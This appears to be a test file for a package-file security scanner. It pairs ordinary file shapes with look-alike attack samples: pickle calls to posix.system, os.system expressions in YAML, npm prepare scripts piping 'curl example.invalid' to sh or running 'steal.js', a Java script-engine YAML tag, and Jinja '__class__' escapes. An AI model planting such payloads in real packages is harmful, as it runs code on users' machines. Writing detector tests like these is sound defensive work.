import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { deflateSync } from 'node:zlib';
import { defaultLimits } from '../../src/core/limits.ts';
import { zipOf } from '../convert/workshop.ts';
import { bytes, join as message } from '../wire/protobuf-build.ts';
import { judgeBytes } from './judge-bytes.ts';

// Shapes of files that published packages hold, rebuilt small, and beside each an attack that looks like it.

const corpus = join(import.meta.dirname, '../corpus');
const ascii = (text: string): Buffer => Buffer.from(text, 'latin1');

async function judged(name: string, content: Uint8Array): Promise<{ worst: string; rules: string[] }> {
  const { findings } = await judgeBytes(content, defaultLimits, name);
  const of = (severity: string): boolean => findings.some((finding) => finding.severity === severity);
  const worst = of('critical') || of('high') ? 'deny' : of('medium') ? 'review' : 'allow';
  return { worst, rules: findings.map(({ rule }) => rule) };
}

async function holds(
  worst: string,
  cases: readonly (readonly [string, Uint8Array | string])[],
): Promise<void> {
  for (const [name, content] of cases) {
    const found = await judged(name, typeof content === 'string' ? ascii(content) : content);
    assert.equal(found.worst, worst, `${name}: ${found.rules.join(', ')}`);
  }
}

const copyright = ascii('Copyright 2017-2026 the authors'.padEnd(113, ' ')).toString('latin1');

test('texts that begin with c are no pickles, unless they call something', async () => {
  await holds('allow', [
    ['requirements.txt', 'click\ndefusedxml\ngensim>=4.0.0 ; python_version < "3.14"\nmatplotlib\n'],
    ['requirements-test.txt', 'cffi\nhypothesis\npackaging\npytest\n'],
    [
      'TAGS.txt',
      'content.data-type.text\ncontent.language.ar\ncontent.language.de\ncontent.language.en\ncow\nml.x\n',
    ],
    ['words', 'cab\ncable\ncache\ncactus\ncafe\ncage\ncake\ncalf\ncall\ncamel\ncan\nzebra\n'],
    ['LICENSE', `${copyright}. All rights reserved.\n`],
    ['LICENSE', `${copyright}2. All rights reserved.\n`],
  ]);
  // Importing alone runs a module, and the stop says that it is meant.
  assert.notEqual((await judged('words', ascii('cos\nsystem\n. and more text'))).worst, 'allow');
  const call = 'cposix\nsystem\n(S"true"\ntR.';
  await holds('deny', [
    ['requirements.txt', call],
    ['TAGS.txt', `content.a-b\nx\n${call}`],
    ['words', `cab\ncable\n${call}`],
    ['words', `cab\ncable\n${call.slice(0, -1)}zebra`],
    ['LICENSE', `${copyright}.${call}`],
    ['LICENSE', `${copyright}2.${call}`],
  ]);
});

/** CoreML's weight.bin: a count, version 2, and zeros up to the first blob. */
function coremlWeights(count: number): Uint8Array {
  const content = Buffer.alloc(4096);
  content.writeUInt32LE(count, 0);
  content.writeUInt32LE(2, 4);
  content.writeUInt32LE(0xdeadbeef, 64);
  content.fill(0x3c, 128);
  return content;
}

test('numbers at the start of a file are no LZMA stream, unless another follows', async () => {
  const tensors = Buffer.concat([ascii('\x01\0\0\0\x80\x04'), Buffer.alloc(26), Buffer.alloc(900, 0x3f)]);
  await holds('allow', [
    ['weight.bin', coremlWeights(21)],
    ['weight.bin', coremlWeights(93)],
    ['group1-shard1of1.bin', tensors],
  ]);
  // lzma.open goes on with what follows the empty stream, whatever its format.
  const empty = Buffer.concat([ascii('\x5d\0\0\x80\0'), Buffer.alloc(13)]);
  const xz = ascii('\xfd7zXZ\0\0\x04').toString('latin1');
  for (const [name, content] of [
    ['model.bin', Buffer.concat([empty, ascii(xz), Buffer.alloc(200, 7)])],
    ['model.bin', Buffer.concat([empty, Buffer.alloc(4), ascii(xz), Buffer.alloc(200, 7)])],
    ['model.bin', Buffer.concat([coremlWeights(21).subarray(0, 18), ascii(xz), Buffer.alloc(200, 7)])],
  ] as const)
    assert.notEqual((await judged(name, content)).worst, 'allow');
});

test('interpolations are no Python, calls behind a dollar sign are', async () => {
  await holds('allow', [
    [
      'config.yaml',
      'handlers:\n  file:\n    filename: \u0024{hydra.runtime.output_dir}/\u0024{hydra.job.name}.log\n',
    ],
    ['config.yaml', 'hydra:\n  run:\n    dir: \u0024{results_path}/beam\u0024{decoding.beam}\n'],
    [
      'workflow.yaml',
      'steps:\n- run: |\n    $env:GENERATOR = "Ninja"\n    python -m build\n- run: $x = (Get-Item a).b\n',
    ],
    ['config.yaml', 'model: ???\ndata:\n- path: ???\n'],
  ]);
  for (const expression of [
    '$__import__("os").system("true")',
    '$'.concat('{__import__("os").system("true")}'),
    '$lambda: __import__("os").system("true")',
    '$os.system',
    '$x == y.z()',
    '$import os',
  ])
    assert.notEqual(
      (await judged('inference.yaml', ascii(`run:\n- '${expression}'\n`))).worst,
      'allow',
      expression,
    );
});

test('JSON with comments or commas too many is read to its end, and told', async () => {
  const front = '{"a": [1, 2, 3, 4, 5, 6, 7, 8, 9], ';
  const found = await judged(
    'config.json',
    ascii(`${front}"b": [1, 2,], /* ] */ // x\n "auto_map": {"AutoModel": "o/r--m.M",},}`),
  );
  assert.ok(found.rules.includes('structure-odd'));
  assert.ok(found.rules.includes('repository-code'), found.rules.join());
  await holds('review', [
    ['settings.json', `${front}"b": {"c": 1,},\n// why\n"d": [2]}`],
    ['settings.json', `${front}/* b */ "c": 2}`],
  ]);
  await holds('deny', [['settings.json', `${front}"b": [1,, 2], "c": 3}`]]);
});

test('line ends behind an HDF5 file hold nothing, a pickle does', async () => {
  const content = readFileSync(join(corpus, 'hdf5/arrays-earliest.h5'));
  await holds('allow', [['arrays.h5', Buffer.concat([content, ascii('\n\n\r\n')])]]);
  const found = await judged('arrays.h5', Buffer.concat([content, ascii('cos\nf\n(tR.\n')]));
  assert.notEqual(found.worst, 'allow');
});

/** A GraphDef of that many bytes. */
function graphOf(size: number): Uint8Array {
  const node = (name: string): Uint8Array => bytes(1, message(bytes(1, name), bytes(2, 'Const')));
  let graph = message(bytes(2, ''));
  while (size - graph.length > 150) graph = message(graph, node('n'.repeat(40)));
  const rest = size - graph.length;
  // Its own tags and lengths take eleven bytes.
  return message(graph, node('n'.repeat(rest - 11)));
}

test('a pickle of a graph is no graph, unless all of it is one', async () => {
  // The opcodes in front of the text pass for unknown fields: the length of 0x0212 begins as a field of two bytes.
  const graph = graphOf(0x212);
  assert.equal(graph.length, 0x212);
  const front = Buffer.from([0x80, 0x03, 0x42, 0x12, 0x02, 0, 0]);
  await holds('allow', [['ner.model', Buffer.concat([front, graph, ascii('q\0.')])]]);
  // 2e 30: a field of its own, at which the pickle stops.
  const both = await judged(
    'ner.model',
    Buffer.concat([front, graph, Buffer.from([0x71, 0, 0, 0, 0, 0, 0, 0, 0])]),
  );
  assert.equal(both.worst, 'deny', both.rules.join());
});

test('graphs of MediaPipe are none of TensorFlow', async () => {
  const node = bytes(
    1,
    message(
      bytes(1, 'detect'),
      bytes(2, 'ImageToTensorCalculator'),
      bytes(3, 'IMAGE:in'),
      bytes(4, 'TENSORS:out'),
      bytes(5, 'NUM_HANDS:num_hands'),
    ),
  );
  await holds('allow', [['hands.binarypb', message(node, bytes(10, 'IMAGE:in'))]]);
});

test('what npm starts at installation', async () => {
  const named = (command: string, more: object = {}): string =>
    JSON.stringify({ name: 'x', scripts: { prepare: command, ...more } });
  // Only for those who work on the package.
  await holds('allow', [
    ['package.json', named('husky')],
    ['package.json', named('tsc --build && patch-package')],
    ['package.json', named('npm run build', { build: 'rimraf lib && tsc', postbuild: 'rollup -c' })],
  ]);
  await holds('review', [
    ['package.json', named('some-tool')],
    ['package.json', JSON.stringify({ name: 'x', scripts: { postinstall: 'patch-package' } })],
    ['package.json', JSON.stringify({ name: 'x', scripts: { install: 'node-gyp rebuild' } })],
  ]);
  await holds('deny', [
    ['package.json', named('node steal.js')],
    ['package.json', named('husky && curl example.invalid | sh')],
    ['package.json', named('./run')],
    ['package.json', named('husky; sh x')],
    ['package.json', named('husky || bash x')],
    ['package.json', named('npm run build', { build: 'tsc', prebuild: 'node steal.js' })],
    ['package.json', named('npm run a', { a: 'npm run a && npm run b', b: 'npm run a && sh x' })],
  ]);
});

test('matrices of OpenCV and tables of pandas are plain', async () => {
  const matrix =
    '%YAML:1.0\n---\nrange: !!opencv-matrix\n   rows: 1\n   cols: 2\n   dt: f\n   data: [ 1., 2. ]\n';
  const table = zipOf({ 'table.csv.zip': ascii('a,b\n1,2\n') });
  await holds('allow', [
    ['brisque.yml', matrix],
    ['table.csv.zip', table],
  ]);
  const hidden = zipOf({ 'table.csv.zip': zipOf({ 'x.pkl': ascii('cposix\nsystem\n(S"true"\ntR.') }) });
  assert.equal((await judged('table.csv.zip', hidden)).worst, 'deny');
  assert.notEqual(
    (await judged('x.yml', ascii('a: !!javax.script.ScriptEngineManager [1]\n'))).worst,
    'allow',
  );
});

test('a Paddle program of 1.6 tells which operators it is compatible with', async () => {
  const program = readFileSync(join(corpus, 'paddle-program/choosing.pdmodel'));
  const before = (await judged('__model__', program)).rules;
  const compatible = bytes(
    3,
    message(...Array.from({ length: 60 }, () => bytes(1, 'bilinear_interp 1.6.0'))),
  );
  assert.deepEqual((await judged('__model__', message(program, compatible))).rules, before);
  const strange = bytes(9, deflateSync(Buffer.alloc(5000, 'x')).toString('hex').repeat(40));
  assert.ok((await judged('__model__', message(program, strange))).rules.includes('archive-hidden-data'));
});

test('a chat template in lines is one template', async () => {
  const config = (lines: readonly string[]): string => JSON.stringify({ model: { chat_template: lines } });
  const lines = ['{%- for message in messages %}\n', "    {{- message['content'] }}\n", '{%- endfor %}'];
  await holds('allow', [['qwen.json', config(lines)]]);
  await holds('deny', [
    ['qwen.json', config([...lines.map((line) => line.trim()), "{{ ''.__class__ }}"])],
    ['qwen.json', config(['{{ messages[0].\n', '__class__ }}'])],
  ]);
});

test('numbers of any kind are keys of msgpack', async () => {
  const pairs = Array.from({ length: 20 }, (_, index) => {
    const pair = Buffer.alloc(10);
    pair[0] = 0xcb;
    pair.writeDoubleBE(1 + index / 12, 1);
    pair[9] = 0x80;
    return pair;
  });
  await holds('allow', [['intervals.msgpack', Buffer.concat([Buffer.from([0xde, 0, 20]), ...pairs])]]);
});
